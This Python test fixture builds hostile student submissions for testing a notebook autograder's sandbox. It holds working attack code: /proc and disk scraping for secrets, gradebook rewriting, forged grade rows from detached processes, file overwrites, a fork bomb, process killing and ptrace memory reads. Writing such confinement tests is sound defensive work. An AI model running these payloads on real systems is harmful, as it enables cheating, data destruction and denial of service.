"""Hostile submissions to a small lab, for test_confinement*.py.

The lab ``00-attacks`` has two exercises: ``double`` (visible test 1 point, hidden test 2) and
``secret``, whose only right answer is a random token that exists in the instructor's source notebook,
in the gradebook and in a classmate's submission — nowhere a student could learn it (hidden test, 3
points). Every attacker answers ``double`` honestly and puts its attack in ``secret``: its honest
score is 3 of 6, and anything more was stolen. The attacks are written as a student would write them
in a cell (no imports of the grader, plain Python), and none raises: each reports what it managed.
"""
from __future__ import annotations

import secrets

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

LAB = "00-attacks"
TOKEN = "seqlab-secret-" + secrets.token_hex(16)  # the answer to `secret`, unguessable
MARK = "seqlab-attack-" + secrets.token_hex(8)     # in the command line of every process an attack starts
POINTS = {"test_double_visible": 1.0, "test_double_hidden": 2.0, "test_secret": 3.0}
HONEST = {"test_double_visible": 1.0, "test_double_hidden": 2.0, "test_secret": 0.0}
CLASSMATE = "zz-classmate"  # sorts last: graded after every attack on the gradebook


def _meta(grade_id: str, *, solution=False, grade=False, locked=False, points=None) -> dict:
    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3,
            "solution": solution, "task": False}
    if points is not None:
        meta["points"] = points
    return {"nbgrader": meta}


def source_notebook():
    """The instructor's notebook of the lab (solutions and hidden tests in place)."""
    cells = [
        new_markdown_cell("# Lab 00 - attacks\n\nA small lab for the confinement tests."),
        new_code_cell("import numpy as np", metadata=_meta("setup", locked=True)),
        new_code_cell("def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION",
                      metadata=_meta("double", solution=True)),
        new_code_cell("assert double(2) == 4, 'double(2) should be 4'",
                      metadata=_meta("test_double_visible", grade=True, locked=True, points=1)),
        new_code_cell("assert double(3) == 6\n### BEGIN HIDDEN TESTS\nassert double(21) == 42\n### END HIDDEN TESTS",
                      metadata=_meta("test_double_hidden", grade=True, locked=True, points=2)),
        new_code_cell(f"def secret():\n    ### BEGIN SOLUTION\n    return {TOKEN!r}\n    ### END SOLUTION",
                      metadata=_meta("secret", solution=True)),
        new_code_cell(f"### BEGIN HIDDEN TESTS\nassert secret() == {TOKEN!r}\n### END HIDDEN TESTS",
                      metadata=_meta("test_secret", grade=True, locked=True, points=3)),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def submission(release_nb, secret_source: str):
    """The released notebook answered: ``double`` right, ``secret`` as given."""
    nb = nbformat.from_dict(release_nb)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "double":
            cell.source = "def double(x):\n    return 2 * x"
        elif gid == "secret":
            cell.source = secret_source
    return nb


# Every attack defines secret() last; `found` is what it stole (None: nothing).
FIND = r'''
import os, re
PATTERN = re.compile(r"seqlab-secret-[0-9a-f]{32}")
found = None

def look(path):
    global found
    try:
        with open(path, errors="ignore") as f:
            m = PATTERN.search(f.read(2_000_000))
        if m:
            found = m.group(0)
            print("stole from", path)
    except Exception:
        pass
'''
RETURN = "\n\ndef secret():\n    return found\n\nprint('stole' if found else 'found nothing')\n"

ATTACKS = {
    # The instructor's notebooks and the gradebook, by walking the disk and the grader's /proc.
    "steals-solutions": FIND + r'''
import time
start = time.time()
roots = [COURSE, ROOT, "/", os.path.expanduser("~")]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for link in ("cwd", "root"):
            try:
                roots.insert(0, os.readlink(f"/proc/{pid}/{link}"))
            except Exception:
                pass
        look(f"/proc/{pid}/environ")
        look(f"/proc/{pid}/cmdline")
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".venv", "site-packages")]
        for name in files:
            if name.endswith((".ipynb", ".db", ".py", ".json", ".csv", ".html")):
                look(os.path.join(folder, name))
        if found or time.time() - start > 20:
            break
    if found:
        break
''' + RETURN,
    # A classmate's notebook: handed in (submitted/, autograded/) or being graded right now.
    "copies-a-classmate": FIND + r'''
import glob
for pattern in (f"{COURSE}/submitted/*/{LAB}/*.ipynb", f"{COURSE}/autograded/*/{LAB}/*.ipynb",
                f"{COURSE}/feedback/*/{LAB}/*.html", f"{KERNELS}/seqlab-kernel-*/scratch/*.ipynb",
                f"{KERNELS}/seqlab-kernel-*/staging/*.ipynb", "/tmp/seqlab-kernel-*/scratch/*.ipynb",
                "/proc/*/cwd/*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb"):
    for path in glob.glob(pattern):
        look(path)
''' + RETURN,
    # Files into the course and the repository: a note at the root, {} over a classmate's notebook.
    "writes-the-course": FIND + r'''
done = []
targets = [f"{COURSE}/pwned-{MARK}", f"{COURSE}/source/{LAB}/pwned-{MARK}", f"{COURSE}/release/{LAB}/{LAB}.ipynb",
           f"{COURSE}/submitted/{CLASSMATE}/{LAB}/{LAB}.ipynb", f"{COURSE}/nbgrader_config.py",
           f"{COURSE}/grades.csv", f"{ROOT}/pwned-{MARK}", os.path.expanduser(f"~/pwned-{MARK}"), f"/tmp/pwned-{MARK}"]
for target in targets:
    try:
        with open(target, "a" if target.endswith(".py") else "w") as f:
            f.write("{}")
        done.append(target)
    except Exception as exc:
        pass
try:
    os.rename(f"{COURSE}/source", f"{COURSE}/source-gone")
    done.append("rename source")
except Exception:
    pass
print("wrote", done or "nothing", "of", len(targets) + 1, "targets")
''' + RETURN,
    # The gradebook: every test cell made to fail, every score raised, the answer read.
    "rewrites-the-gradebook": FIND + r'''
import sqlite3
for db in (f"{COURSE}/gradebook.db", f"{ROOT}/gradebook.db"):
    try:
        con = sqlite3.connect(db)
        for (text,) in con.execute("select source from source_cell"):
            m = PATTERN.search(text or "")
            if m:
                found = m.group(0)
        con.execute("update source_cell set source = 'assert False'")
        con.execute("update grade_cells set max_score = 100")
        con.commit()
    except Exception as exc:
        print("gradebook:", type(exc).__name__)
''' + RETURN,
    # A process that outlives the kernel and appends a forged row to grades.csv after the batch.
    "detaches-a-process": FIND + r'''
import subprocess, sys
forger = (f"import time\nfor _ in range(600):\n    time.sleep(0.1)\n    try:\n"
          f"        open({COURSE!r} + '/grades.csv', 'a').write('{CLASSMATE},{LAB},0,6,0,6,0,forged\\n')\n"
          f"    except Exception:\n        pass\n")
subprocess.Popen([sys.executable, "-c", forger, MARK], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# and a classic daemon: double fork, new session
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", forger, MARK])
    os._exit(0)
os.wait()
''' + RETURN,
    # The grader's listener on loopback, UDP too, and the outside world.
    "connects-to-loopback": FIND + r'''
import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 80)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT))):
    try:
        s = socket.socket(family, kind)
        s.settimeout(3)
        s.connect(address)
        s.send(MARK.encode())
        print("sent to" if kind == socket.SOCK_DGRAM else "reached", address)  # the listener tells
    except Exception as exc:
        print("refused", address, type(exc).__name__)
for path in __import__("glob").glob(f"{KERNELS}/seqlab-kernel-*/conn/kernel-*"):  # other kernels' channels
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("reached a kernel channel")
    except Exception:
        pass
''' + RETURN,
    # Processes without end: the supervisor kills the lot once it passes the task limit.
    "fork-bomb": FIND + r'''
import subprocess, sys, time
bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
subprocess.Popen([sys.executable, "-c", bomb, MARK], start_new_session=True)
time.sleep(20)
''' + RETURN,
    # A file larger than the limit (and the scratch file system).
    "huge-file": FIND + r'''
chunk = b"x" * 2**20
written = 0
try:
    with open("huge.bin", "wb") as f:
        for _ in range(2 * 1024 + 1):
            f.write(chunk)
            written += 1
except OSError as exc:
    print("stopped after", written, "MiB:", exc.strerror)
try:
    os.remove("huge.bin")
except OSError:
    pass
''' + RETURN,
    # The grader's process, and everyone else's.
    "signals-the-grader": FIND + r'''
import signal
for target, sig in ((os.getppid(), signal.SIGKILL), (-1, signal.SIGTERM)):
    try:
        os.kill(target, sig)
        print("signalled", target)
    except Exception as exc:
        print("could not signal", target, type(exc).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGSTOP)
            os.kill(int(pid), signal.SIGCONT)
        except Exception:
            pass
''' + RETURN,
    # ptrace and /proc/<pid>/mem of the grader: read its memory, where the answer may be.
    "ptraces-the-grader": FIND + r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
targets = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
for pid in targets:
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        print("attached to", pid)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 2**26:
                    mem.seek(lo)
                    m = PATTERN.search(mem.read(hi - lo).decode("latin-1"))
                    if m:
                        found = m.group(0)
    except Exception:
        pass
''' + RETURN,
}
NAMES = sorted(ATTACKS)


def build(release_nb, *, course: str, root: str, kernels: str, port: int, udp_port: int) -> dict:
    """{student: notebook}: every attack, and the classmate who has the right answer."""
    subs = {}
    for name, code in ATTACKS.items():
        filled = (code.replace("COURSE", repr(course)).replace("KERNELS", repr(kernels)).replace("ROOT", repr(root))
                  .replace("UDP_PORT", str(udp_port)).replace("PORT", str(port))
                  .replace("MARK", repr(MARK)).replace("CLASSMATE", repr(CLASSMATE)).replace("LAB", repr(LAB)))
        subs[name] = submission(release_nb, filled)
    subs[CLASSMATE] = submission(release_nb, f"def secret():\n    return {TOKEN!r}")
    return subs
